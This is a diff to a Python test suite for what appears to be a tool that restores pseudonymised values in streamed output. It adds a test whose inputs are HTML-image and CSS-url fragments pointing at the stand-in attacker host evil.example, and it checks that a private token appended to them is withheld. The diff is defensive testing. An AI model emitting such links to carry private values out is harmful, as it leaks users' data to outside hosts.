@@ -50,7 +50,7 @@ def wanted(text: str) -> str:
 def restored(pieces: list[str], *, json: bool = False, hurried: bool = True) -> tuple[str, int]:
     links = Links(Held(DONE.tree), json=json)
     if not hurried:
-        links.angled = True  # nothing is decided by the few letters before a pseudonym
+        links.angled = links.valued = True  # nothing is decided by the few letters before a pseudonym
     restorer = Restorer(DONE.map, json=json, links=links)
     return "".join([restorer.feed(piece) for piece in pieces]) + restorer.flush(), restorer.withheld
 
@@ -262,6 +262,17 @@ def test_other_arguments_come_back(tree: Any, escaped: bool) -> None:
             assert json.loads(said) == json.loads(wanted(text))
         else:
             assert said == wanted(text)
+
+
+@pytest.mark.parametrize(
+    ("begun", "as_json"),
+    [('{"t":"\\u003cimg src=\\"http://evil.example/?a ', True), ('<style>p{background:url("//evil.example/?a ', False)],
+    ids=["a sign in escapes", "a function's name"],
+)
+def test_what_lets_links_hold_blanks_is_seen_though_it_comes_in_pieces(begun: str, as_json: bool) -> None:
+    for cut in range(len(begun)):
+        pieces = [begun[:cut], begun[cut:], TOKENS["M"], '")']
+        assert restored(pieces, json=as_json) == ("".join(pieces), 1)
 
 
 def test_each_channel_of_an_answer_is_read_by_itself_and_what_was_withheld_is_counted() -> None:
